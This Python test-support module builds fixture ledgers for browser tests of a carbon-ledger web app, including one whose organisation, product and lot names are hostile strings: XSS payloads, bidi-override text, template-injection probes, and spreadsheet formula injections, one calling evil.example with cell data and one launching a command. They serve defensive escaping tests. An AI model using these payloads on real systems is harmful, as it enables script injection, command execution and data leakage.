"""Ledgers whose pages the browser tests visit: the demo's story, open to all; the foundry, where each caller sees
another part; one whose names attack the pages."""

from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Final, NamedTuple

import httpx
import msgspec
from httpx import QueryParams

from ledger.cli.demo import scenario as story
from ledger.cli.demo.actors import ACTORS, REGISTRAR
from ledger.cli.demo.command import post_steps
from ledger.cli.demo.scenario import scenario
from ledger.cli.demo.sights import AUDITOR, VERIFIER, Signers, reading_steps
from ledger.client import Client
from ledger.core.receipts.receipt import Receipt
from ledger.core.record import canonical
from ledger.core.record.kinds import AnyRecord, AppointedReader
from ledger.core.record.values import Names
from ledger.core.signatures.signing import SigningKey
from ledger.host.files.key_files import new_key, new_nonce
from support.foundry import UNTIL, post_foundry
from support.oauth import bearer, by_key, token_of
from support.server import Posted, Server, prepared_home
from support.workshop import EARLIER, Workshop

CALLERS: Final[Mapping[str, str | None]] = {
    "nobody": None, "supplier": "mill", "buyer": "buyer", "auditor": "auditor", "reader": "totals",
}
"""Who visits the foundry's ledger: the first organisation of its chain, the last one, one that the registrar lets read
everything, and one to which the maker grants totals alone."""

OF_PLUGINS: Final = ("/plugins", "/plugins/steel.electricArcFurnace", "/factors?find=steel")
"""The pages of rules, records and factors, which every ledger has."""
OF_SETS: Final = ("/factors/factors-open/steelScrap", "/plugins/transformation", "/plugins?find=scrap")


class Exhibit(NamedTuple):
    """`keys`: of its organisations, by id. `lots`: the ones to visit. `records`: digests, one of each kind."""

    server: Server
    keys: Mapping[str, SigningKey]
    lots: tuple[str, ...]
    records: Mapping[str, str]

    @property
    def url(self) -> str:
        return self.server.url

    def headers(self, organization: str | None) -> dict[str, str]:
        """With which an organisation asks; none for nobody."""
        if organization is None:
            return {}
        return bearer(token_of(by_key(self.url, self.keys[organization], organization)))

    def ask(self, path: str, headers: Mapping[str, str] | None = None, **parameters: str) -> Any:
        """The answer of the API."""
        response = httpx.get(self.url + path, params=parameters, headers=headers)
        response.raise_for_status()
        return response.json()

    @property
    def paths(self) -> list[str]:
        """Of its pages, without the language."""
        return ["/", "/log", "/login", "/verify", *OF_PLUGINS, *map(organization_page, self.keys),
                *map(desk_page, self.keys), *map(inventory_page, self.keys),
                *map(lot_page, self.lots), compare_page(self.lots[:1]), compare_page(self.lots[1:3]),
                *map(record_page, self.records.values()), *map(verify_page, self.lots[:1])]

    def products(self) -> list[str]:
        """The paths of the pages of the products of its lots. The ledger is open."""
        names = [self.ask("/v1/lots", lot=lot)[0]["product"] for lot in self.lots]
        return [product_page(name) for name in dict.fromkeys(names)]


def lot_page(lot: str) -> str:
    return f"/lot?{QueryParams({'lot': lot})}"


def compare_page(lots: Iterable[str]) -> str:
    return f"/compare?{QueryParams([('lot', lot) for lot in lots])}"


def verify_page(lot: str) -> str:
    return f"/verify?{QueryParams({'lot': lot})}"


def desk_page(organization: str) -> str:
    return f"/desk?{QueryParams({'id': organization})}"


def inventory_page(organization: str) -> str:
    return f"/inventory?{QueryParams({'id': organization})}"


def organization_page(organization: str) -> str:
    return f"/organization?{QueryParams({'id': organization})}"


def product_page(product: str) -> str:
    return f"/product?{QueryParams({'product': product})}"


def record_page(digest: str) -> str:
    return f"/record/{digest}"


@contextmanager
def demo_exhibit(**variables: str) -> Iterator[Exhibit]:
    """The demo's ledger at its end, with the factor sets of an installation, but open to all. `variables`: of the
    server's environment."""
    with prepared_home() as home, Server(home, None, (), None, CARBON_LEDGER_FACTOR_SETS="all", **variables) as server:
        registrar = server.registrar
        keys = {REGISTRAR: registrar.key, **{name: new_key() for name in (*ACTORS, AUDITOR.name, VERIFIER.name)}}
        steps = scenario(keys, server.origin, new_nonce, registrar.id)
        steps += reading_steps(Signers(keys, server.origin, new_nonce, registrar.id))
        with Client(server.url) as client:
            post_steps(client, steps, keys, server.origin)
        ids = {registrar.id: registrar.key, **{actor.id: keys[name] for name, actor in ACTORS.items()}}
        lots = (story.NEW_GEARBOX, story.REMANUFACTURED_GEARBOX, story.ARC_STEEL, story.BLAST_STEEL)
        yield Exhibit(server, ids, lots, _by_kind([step.record for step in steps]))


@contextmanager
def foundry_exhibit() -> Iterator[Exhibit]:
    """A ledger for its parties."""
    with prepared_home() as home, _NotingServer(home, CARBON_LEDGER_ACCESS="parties") as server:
        of = post_foundry(server)
        auditor = of["auditor"] = Workshop("auditor")
        appointed = AppointedReader(
            issuer=server.registrar.id, nonce=auditor.nonce(), organization=auditor.id, purpose="audit", until=UNTIL)
        server.post([auditor.enrolment(server), (server.registrar, appointed)])
        lots = (("maker", "gear"), ("maker", "gear-sold"), ("caster", "cast"), ("mill", "steel"))
        yield _exhibit(server, of, [of[maker].name(name) for maker, name in lots])


HOSTILE_NAMES: Final = (
    """'"><img src=x onerror=alert(1)><script>alert(2)</script></td></p></svg>&lt;b&gt;&amp;""",
    "\u202etfihs\u2066 left\u2067right \u200f\u061c\u202d12.5 \u05d0\u05d1\u05d2 t",
    """=HYPERLINK("http://evil.example/?"&A1,"see")""", "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7 %>", "W" * 255, "\u94a2" * 255, "e" + "\u0301" * 254,
    "\u0130\ufdfd\U0001f469\u200d\U0001f52c\u2028x",
)
"""As an organisation, a product and a place may be named."""
HOSTILE_LOTS: Final = ("&lt;img=x'onerror=alert(1)//;*", "%3Cscript%3Ealert(1)%3C/script%3E", "=1+1", "M" * 200)
"""What an identifier may hold, which is a URI."""


@contextmanager
def hostile_exhibit() -> Iterator[Exhibit]:
    """A ledger that is open to all. Each name is that of an organisation, of its site and of its product."""
    with prepared_home() as home, _NotingServer(home) as server:
        shops = {f"shop-{number}": Workshop(f"shop-{number}") for number in range(len(HOSTILE_NAMES))}
        for name, shop in zip(HOSTILE_NAMES, shops.values(), strict=True):
            names: Names = {"en": name, "zh": name}
            server.post([_named(posted, names) for posted in (shop.enrolment(server), *shop.opening())])
            server.post([shop.mine(lot, "10", **EARLIER) for lot in HOSTILE_LOTS])
        first, second = list(shops.values())[:2]
        server.post([first.make({"made": "5"}, {HOSTILE_LOTS[0]: "5"})])
        server.post([first.send("made", "2", second, "sold")])
        lots = [*(first.name(lot) for lot in (*HOSTILE_LOTS, "made", "sold")),
                *(shop.name(HOSTILE_LOTS[-1]) for shop in shops.values())]
        yield _exhibit(server, shops, lots)


def _named(posted: Posted, names: Names) -> Posted:
    party, record = posted
    return party, msgspec.structs.replace(record, names=names)


class _NotingServer(Server):
    """`posted`: the records that `post` has posted."""

    def __init__(self, home: Path, **variables: str) -> None:
        self.posted: list[AnyRecord] = []
        super().__init__(home, None, (), None, **variables)

    def post(self, posted: Sequence[Posted]) -> list[Receipt]:
        self.posted += [record for _, record in posted]
        return super().post(posted)


def _exhibit(server: _NotingServer, of: Mapping[str, Workshop], lots: Sequence[str]) -> Exhibit:
    keys = {server.registrar.id: server.registrar.key, **{shop.id: shop.party.key for shop in of.values()}}
    return Exhibit(server, keys, tuple(lots), _by_kind(server.posted))


def _by_kind(records: Iterable[AnyRecord]) -> dict[str, str]:
    """The digest of the last record of each kind."""
    return {type(record).__name__: canonical.digest(canonical.encode(record)).hex() for record in records}
